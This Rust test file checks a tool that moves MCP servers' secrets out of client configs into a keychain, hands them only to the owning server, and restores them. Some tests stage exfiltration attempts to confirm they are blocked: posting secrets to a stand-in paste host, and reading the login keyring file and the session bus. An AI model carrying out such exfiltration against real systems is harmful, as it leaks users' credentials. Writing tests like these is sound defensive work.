//! Secrets of entries in a real keychain: moved at protecting, handed out at a launch, put back at restoring.
#![expect(clippy::unwrap_used, reason = "a test that cannot go on has failed")]

use std::{fs, path::PathBuf};

use firedoor_tests::{
    Agent, Client, Home, Keychain, descendants,
    secrets::{any_server, configured, environment, holds, nowhere, only_with_their_servers, open, samples},
    text, until,
};
use serde_json::{Value, json};

const TOKEN: &str = "ghp_MadeUpForThisTest000000000000000001";
const PASSWORD: &str = "correct-horse-made-up";
const DSN: &str = "postgres://u:made-up-pw-0002@db.example/app";

/// Starts a server that is refused, and returns why.
#[track_caller]
fn refused(home: &Home, line: &[String]) -> String {
    let mut client = Client::start(home, line);
    let id = client.request("initialize", json!({}));
    let why = client.answer(id)["error"]["message"].to_string();
    client.end();
    why
}

/// A server with a secret in its environment and one in its arguments.
fn servers(home: &Home) -> (PathBuf, String) {
    let mut entry = home.entry("reaching_server.py", &["--token", PASSWORD, DSN]);
    entry["env"] = json!({"GITHUB_TOKEN": TOKEN, "LOG_LEVEL": "debug"});
    let path = home.cursor(json!({"r": entry}));
    let before = fs::read_to_string(&path).unwrap();
    (path, before)
}

#[test]
fn after_protecting_only_the_server_has_its_secrets_and_restoring_gives_every_byte_back() {
    let home = Home::new();
    let (path, before) = servers(&home);
    let keychain = Keychain::start(&home);
    let secrets = [TOKEN, PASSWORD, DSN];
    let report = home.json(&["protect", "--all", "--yes"]);
    assert_eq!(report["verified"][0]["verified"], "same", "{report}");
    let moved = json!([
        "firedoor-secret:cursor/user/r/GITHUB_TOKEN",
        "firedoor-secret:cursor/user/r/--token",
        "firedoor-secret:cursor/user/r/argument-4",
    ]);
    assert_eq!(report["files"][0]["secrets"], moved, "{report}");
    let now: Value = serde_json::from_slice(&fs::read(&path).unwrap()).unwrap();
    assert_eq!(now["mcpServers"]["r"]["env"]["GITHUB_TOKEN"], moved[0]);
    assert_eq!(now["mcpServers"]["r"]["env"]["LOG_LEVEL"], "debug");
    nowhere(&home, &secrets);
    assert!(!keychain.files().is_empty());

    let mut client = open(&home, "r");
    assert_eq!(environment(&mut client, "GITHUB_TOKEN"), TOKEN);
    // The engine, the shim, the guardian, the command line: everything but the server itself.
    let mut seen = 0;
    let below = descendants(client.pid());
    let own = home.engine().into_iter().chain(below).chain([client.pid()]);
    for pid in own {
        let read = |name: &str| fs::read(format!("/proc/{pid}/{name}")).unwrap_or_default();
        let (line, variables) = (read("cmdline"), read("environ"));
        let server = holds(&line, "reaching_server.py") && !holds(&line, "firedoor-shim");
        let found = secrets.iter().filter(|s| holds(&line, s) || holds(&variables, s)).count();
        if server {
            seen += 1;
            assert!(
                holds(&line, PASSWORD) && holds(&line, DSN),
                "a server that wants them as arguments gets them there"
            );
        } else {
            assert_eq!(found, 0, "{pid}: {}", String::from_utf8_lossy(&line));
        }
    }
    assert_eq!(seen, 1);
    client.end();
    nowhere(&home, &secrets);

    home.firedoor(&["restore", "--all"]).expect_code(0).expect_said("byte for byte").expect_said("put back");
    assert_eq!(fs::read_to_string(&path).unwrap(), before);
}

#[test]
fn each_entry_says_what_it_replaced_without_journal_and_engine() {
    let home = Home::new();
    let (path, before) = servers(&home);
    let _keychain = Keychain::start(&home);
    home.protect();
    fs::remove_dir_all(home.state("")).unwrap();
    home.firedoor(&["restore", "--all"]).expect_code(0);
    assert_eq!(fs::read_to_string(&path).unwrap(), before);
}

#[test]
fn without_a_keychain_secrets_stay_and_that_is_said() {
    let home = Home::new();
    let (path, before) = servers(&home);
    home.firedoor(&["protect", "--all", "--yes", "--no-verify"])
        .expect_code(0)
        .expect_said("secret left in clear")
        .expect_said("no keychain answers here");
    let now = fs::read_to_string(&path).unwrap();
    assert!(now.contains("firedoor-shim") && now.contains(TOKEN), "{now}");
    home.firedoor(&["scan"]).expect_code(0).expect_said("Secret in clear");
    home.firedoor(&["doctor"]).expect_said("keychain");
    let mut client = open(&home, "r");
    assert_eq!(environment(&mut client, "GITHUB_TOKEN"), TOKEN);
    client.end();
    // When there is one, protecting again moves them, and seals what was saved before.
    let _keychain = Keychain::start(&home);
    home.firedoor(&["protect", "--all", "--yes", "--no-verify"]).expect_code(0).expect_said("moved into the keychain");
    nowhere(&home, &[TOKEN, PASSWORD, DSN]);
    home.firedoor(&["restore", "--all"]).expect_code(0);
    assert_eq!(fs::read_to_string(&path).unwrap(), before);
}

#[test]
fn a_locked_keychain_hands_nothing_out_and_says_so() {
    let home = Home::new();
    let (path, before) = servers(&home);
    let mut keychain = Keychain::start(&home);
    home.protect();
    let protected = fs::read_to_string(&path).unwrap();
    keychain.lock();
    let refused = refused(&home, &configured(&home, "r"));
    assert!(refused.contains("keychain") && refused.contains("locked"), "{refused}");
    // The route is given back, the secrets are named, and nothing is made up.
    home.firedoor(&["restore", "--all"]).expect_code(1).expect_said("NOT put back").expect_said("GITHUB_TOKEN");
    let now = fs::read_to_string(&path).unwrap();
    assert!(!now.contains("firedoor-shim") && now.contains("firedoor-secret:cursor/user/r/GITHUB_TOKEN"), "{now}");
    home.firedoor(&["scan"]).expect_said("its secrets are in the keychain");
    // Protecting with a locked keychain leaves what is in clear, and what is a reference, as it is.
    home.firedoor(&["protect", "--all", "--yes", "--no-verify"]).expect_code(0);
    assert_eq!(fs::read_to_string(&path).unwrap(), protected);
    keychain.unlock();
    home.firedoor(&["restore", "--all"]).expect_code(0);
    assert_eq!(fs::read_to_string(&path).unwrap(), before);
}

#[test]
fn a_denied_keychain_is_named_as_such() {
    let home = Home::new();
    let (path, _) = servers(&home);
    let rules = "<deny send_interface=\"org.freedesktop.Secret.Service\"/>";
    let _keychain = Keychain::start_with(&home, rules);
    home.firedoor(&["protect", "--all", "--yes", "--no-verify"])
        .expect_code(0)
        .expect_said("secret left in clear")
        .expect_said("denies");
    assert!(fs::read_to_string(&path).unwrap().contains(TOKEN));
}

#[test]
fn a_deleted_secret_is_missed_by_name_and_can_be_set_again() {
    let home = Home::new();
    let (path, _) = servers(&home);
    let _keychain = Keychain::start(&home);
    home.protect();
    let name = "cursor/user/r/GITHUB_TOKEN";
    home.firedoor(&["secrets", "remove", name]).expect_code(1).expect_said("is used by cursor/user/r");
    home.firedoor(&["secrets", "remove", name, "--force"]).expect_code(0);
    home.firedoor(&["secrets", "list"]).expect_code(1).expect_said("MISSING");
    let refused = refused(&home, &configured(&home, "r"));
    assert!(refused.contains(&format!("firedoor secrets set {name}")), "{refused}");
    set(&home, name, "ghp_MadeUpForThisTest000000000000000009", &[]);
    let mut client = open(&home, "r");
    assert_eq!(environment(&mut client, "GITHUB_TOKEN"), "ghp_MadeUpForThisTest000000000000000009");
    client.end();
    // What was set in the keychain comes back, not what the saved original has.
    home.firedoor(&["restore", "--all"]).expect_code(0);
    let now = fs::read_to_string(&path).unwrap();
    assert!(now.contains("00009") && !now.contains(TOKEN), "{now}");
}

/// Sets a secret, whose value comes on stdin.
#[track_caller]
fn set(home: &Home, name: &str, value: &str, more: &[&str]) -> firedoor_tests::Output {
    home.firedoor_typing(&[&["secrets", "set", name], more].concat(), value).expect_code(0)
}

#[test]
fn two_clients_with_the_same_secret_each_have_their_own_and_change_together_when_asked() {
    let home = Home::new();
    let _keychain = Keychain::start(&home);
    let mut entry = home.entry("reaching_server.py", &[]);
    entry["env"] = json!({"GITHUB_TOKEN": TOKEN});
    home.cursor(json!({"r": entry}));
    home.write(".gemini/settings.json", json!({"mcpServers": {"r": entry}}).to_string());
    home.protect();
    nowhere(&home, &[TOKEN]);
    let (one, other) = ("cursor/user/r/GITHUB_TOKEN", "gemini-cli/user/r/GITHUB_TOKEN");
    let (new, newer) = ("ghp_MadeUpForThisTest000000000000000002", "ghp_MadeUpForThisTest000000000000000003");
    set(&home, one, new, &[]).expect_said(other).expect_said("--everywhere");
    set(&home, other, new, &[]);
    set(&home, one, newer, &["--everywhere"]).expect_said("is set, too");
    let listed = home.json(&["secrets", "list"]);
    let names: Vec<_> = listed["secrets"].as_array().unwrap().iter().map(|s| s["secret"].as_str().unwrap()).collect();
    assert_eq!(names, [one, other]);
    assert!(!listed.to_string().contains("ghp_"), "{listed}");
    home.firedoor(&["restore", "--all"]).expect_code(0);
    for file in [".cursor/mcp.json", ".gemini/settings.json"] {
        let now = fs::read_to_string(home.path().join(file)).unwrap();
        assert!(now.contains(newer) && !now.contains("firedoor-secret:"), "{now}");
    }
    home.firedoor(&["secrets", "remove", "--unused"]).expect_code(0).expect_said(one).expect_said(other);
    assert_eq!(home.json(&["secrets", "list"])["secrets"], json!([]));
    set_refused(&home, one);
}

#[track_caller]
fn set_refused(home: &Home, name: &str) {
    home.firedoor(&["secrets", "set", name]).expect_code(2).expect_said("no entry refers to");
}

#[test]
fn a_copied_entry_gets_no_secret_of_another_until_it_is_protected_itself() {
    let home = Home::new();
    let (path, _) = servers(&home);
    let _keychain = Keychain::start(&home);
    home.protect();
    let text = fs::read_to_string(&path).unwrap();
    let mut all: Value = serde_json::from_str(&text).unwrap();
    let mut copy = all["mcpServers"]["r"].clone();
    copy["args"][1] = json!("cursor/user/copy");
    all["mcpServers"]["copy"] = copy;
    fs::write(&path, all.to_string()).unwrap();
    let refused = refused(&home, &configured(&home, "copy"));
    assert!(refused.contains("belongs to another entry"), "{refused}");
    home.protect();
    let mut client = open(&home, "copy");
    client.call("home", json!({}));
    client.end();
    home.firedoor(&["restore", "--all"]).expect_code(0);
    let back: Value = serde_json::from_slice(&fs::read(&path).unwrap()).unwrap();
    for server in ["r", "copy"] {
        assert_eq!(back["mcpServers"][server]["env"]["GITHUB_TOKEN"], TOKEN);
        assert_eq!(back["mcpServers"][server]["args"][2], PASSWORD);
    }
}

#[test]
fn somebody_elses_command_does_not_get_an_entrys_secrets() {
    let home = Home::new();
    servers(&home);
    let _keychain = Keychain::start(&home);
    home.protect();
    let shim = home.program("firedoor-shim").into_os_string().into_string().unwrap();
    let token = "firedoor-secret:cursor/user/r/GITHUB_TOKEN";
    let line = [&shim, "--entry", "cursor/user/r", "--", "/bin/cat", token].map(str::to_owned);
    let refused = refused(&home, &line);
    assert!(refused.contains("not handed out"), "{refused}");
}

#[test]
fn a_protected_server_cannot_reach_the_keychain() {
    let home = Home::new();
    let entry = home.entry("reaching_server.py", &[]);
    home.cursor(json!({"r": entry}));
    let _keychain = Keychain::start(&home);
    let unprotected = home.command_line("r");
    home.protect();
    let bus = home.runtime().with_file_name("bus");
    let reach = |client: &mut Client| text(&client.call("unix", json!({"path": bus}))).0;
    let mut baseline = Client::start(&home, &unprotected);
    baseline.initialize();
    assert_eq!(reach(&mut baseline), "got: connected", "the baseline fails, so the probe says nothing");
    let mut client = open(&home, "r");
    assert!(reach(&mut client).starts_with("denied: "), "{}", reach(&mut client));
    let files = home.path().join(".local/share/keyrings/login.keyring");
    let read = text(&client.call("read", json!({"path": files}))).0;
    assert!(read.starts_with("denied: "), "{read}");
    assert_eq!(environment(&mut client, "DBUS_SESSION_BUS_ADDRESS"), "");
}

/// Whatever it looks like, and however its server gets it: it came out of the keychain.
#[test]
fn a_secret_of_one_server_is_held_on_its_way_to_another() {
    const SENTENCE: &str = "seven grey geese at noon";
    let home = Home::new();
    let option = format!("--password={SENTENCE}");
    let started = |args: &[&str]| home.entry("reaching_server.py", args);
    let mut passphrase = started(&[]);
    passphrase["env"] = json!({"DB_PASSPHRASE": "blue moon over the harbour"});
    home.cursor(json!({
        "token": started(&["--token", TOKEN]),
        "word": started(&["--token", PASSWORD]),
        "option": started(&[&option]),
        "passphrase": passphrase,
        "outbox": home.entry("outbox_server.py", &[]),
    }));
    let _keychain = Keychain::start(&home);
    home.protect();
    let mut agent = Agent::open(&home);
    let secrets = [
        ("token", "--token", TOKEN),
        ("word", "--token", PASSWORD),
        ("option", "--password", SENTENCE),
        ("passphrase", "DB_PASSPHRASE", "blue moon over the harbour"),
    ];
    for (server, name, secret) in secrets {
        // A server may be sent what is its own.
        agent.call(server, "read", json!({"path": secret}));
        assert_eq!(home.pending(), Vec::<Value>::new(), "{server}");
        let body = json!({"url": "https://paste.example.net/", "body": format!("It is {secret}.")});
        let tag = agent.send("outbox", "http_post", body);
        let question = until("a question", || home.pending().into_iter().next());
        let (finding, shown) = (&question["findings"][0], question.to_string());
        assert_eq!(finding["detector"], "flow/secret", "{shown}");
        assert_eq!(finding["evidence"][0]["pointer"], format!("firedoor-secret:cursor/user/{server}/{name}"));
        assert!(!shown.contains(secret), "{shown}");
        home.firedoor(&["answer", question["id"].as_str().unwrap(), "block"]).expect_code(0);
        assert!(agent.answer(tag).1);
    }
    let plain = json!({"url": "https://paste.example.net/", "body": "seven geese, a token and the moon"});
    assert_eq!(agent.call("outbox", "http_post", plain), ("202 Accepted".into(), false));
    nowhere(&home, &secrets.map(|(.., secret)| secret));
}

#[test]
fn no_credential_of_any_sample_is_anywhere_but_with_its_server() {
    let home = Home::new();
    let script = any_server(&home);
    let samples = samples(&home, &script);
    let _keychain = Keychain::start(&home);
    let work = home.path().join("work").into_os_string().into_string().unwrap();
    home.firedoor(&["protect", "--all", "--yes", "--no-verify", "--project", &work]).expect_code(0);
    only_with_their_servers(&home, &samples, None);
}
